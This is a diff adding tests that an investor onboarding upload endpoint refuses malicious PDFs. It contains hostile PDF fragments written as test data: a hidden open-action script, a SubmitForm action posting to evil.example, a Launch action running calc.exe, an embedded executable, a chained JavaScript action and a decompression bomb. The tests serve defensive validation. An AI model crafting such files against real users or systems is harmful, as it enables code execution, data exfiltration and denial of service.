@@ -9,6 +9,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { eq } from 'drizzle-orm';
 import { onboardingDocuments } from '../../src/server/db/schema.ts';
 import { UPLOAD_MESSAGES } from '../../src/server/services/onboarding/file-check.ts';
+import { configureFileChecks } from '../../src/server/services/onboarding/file-check-pool.ts';
+import { objectStreamScriptPdf } from './support/pdf-attack.ts';
 import type { TestApp } from './support/harness.ts';
 import { completeSteps, createOnboardingApp, fixture, investor, upload, type Investor } from './support/onboarding.ts';
 
@@ -108,6 +110,52 @@ describe('PDFs with active content are refused', () => {
     expect(res.status).toBe(415);
     expect(res.body.errors).toEqual([message]);
   });
+
+  it('a PDF whose open-action script is packed in an object stream behind two filter tricks is refused (pdf.js reads the script from it)', async () => {
+    const bytes = objectStreamScriptPdf();
+    // the file is a real attack: a maintained reader finds the script
+    const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
+    const doc = await pdfjs.getDocument({ data: bytes.slice(), isEvalSupported: false, disableFontFace: true, verbosity: 0 }).promise;
+    expect(await doc.getJSActions()).toEqual({ OpenAction: ['app.alert(42)'] });
+    await doc.destroy();
+    const before = await t.deps.db.select().from(onboardingDocuments);
+    const res = await upload(t, inv.token, '/upload-cheque', bytes, 'cheque.pdf');
+    expect(res.status).toBe(415);
+    expect(res.body.errors).toEqual([UPLOAD_MESSAGES.pdfActive]);
+    expect(await t.deps.db.select().from(onboardingDocuments)).toEqual(before);
+  });
+
+  it.each([
+    ['a SubmitForm action on a page annotation', pdf('', [enc('3 0 obj\n<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/) >> >>\nendobj\n')])],
+    ['a Launch action in a page’s additional actions', pdf('', [enc('3 0 obj\n<< /Type /Page /AA << /O << /S /Launch /F (calc.exe) >> >> >>\nendobj\n')])],
+    ['a file specification with an embedded file', pdf('', [enc('3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n')])],
+    ['a JavaScript action chained by /Next after a harmless one', pdf('/OpenAction << /S /URI /URI (https://example.com/) /Next << /S /JavaScript /JS 4 0 R >> >>')],
+  ] as const)('%s is refused', async (_, bytes) => {
+    const res = await upload(t, inv.token, '/upload-cheque', bytes, 'cheque.pdf');
+    expect(res.status).toBe(415);
+    expect(res.body.errors).toEqual([UPLOAD_MESSAGES.pdfActive]);
+  });
+
+  it('a compressed stream that inflates past the bound (a decompression bomb) is refused unread', async () => {
+    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 });
+    const bytes = pdf('', [concat(enc(`3 0 obj\n<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n`), bomb, enc('\nendstream\nendobj\n'))]);
+    const res = await upload(t, inv.token, '/upload-cheque', bytes, 'cheque.pdf');
+    expect(res.status).toBe(415);
+    expect(res.body.errors).toEqual([UPLOAD_MESSAGES.unreadable]);
+  });
+
+  it('a file the checker does not finish within its time bound is refused, and the next file is checked afresh', async () => {
+    configureFileChecks({ timeoutMs: 1, wallMs: 1 });
+    try {
+      const res = await upload(t, inv.token, '/upload-cheque', fixture('bank-statement.pdf'), 'statement.pdf');
+      expect(res.status).toBe(415);
+      expect(res.body.errors).toEqual([UPLOAD_MESSAGES.unreadable]);
+    } finally {
+      configureFileChecks({ timeoutMs: t.deps.config.uploads.checkTimeoutMs, nice: t.deps.config.uploads.checkNice });
+    }
+    expect((await upload(t, inv.token, '/upload-cheque', fixture('bank-statement.pdf'), 'statement.pdf')).status).toBe(200);
+    // a fresh checker process starts for the second file: allow for a busy machine
+  }, 120_000);
 
   it('a plain PDF (the bank statement fixture) is accepted and stored as sent', async () => {
     const bytes = fixture('bank-statement.pdf');
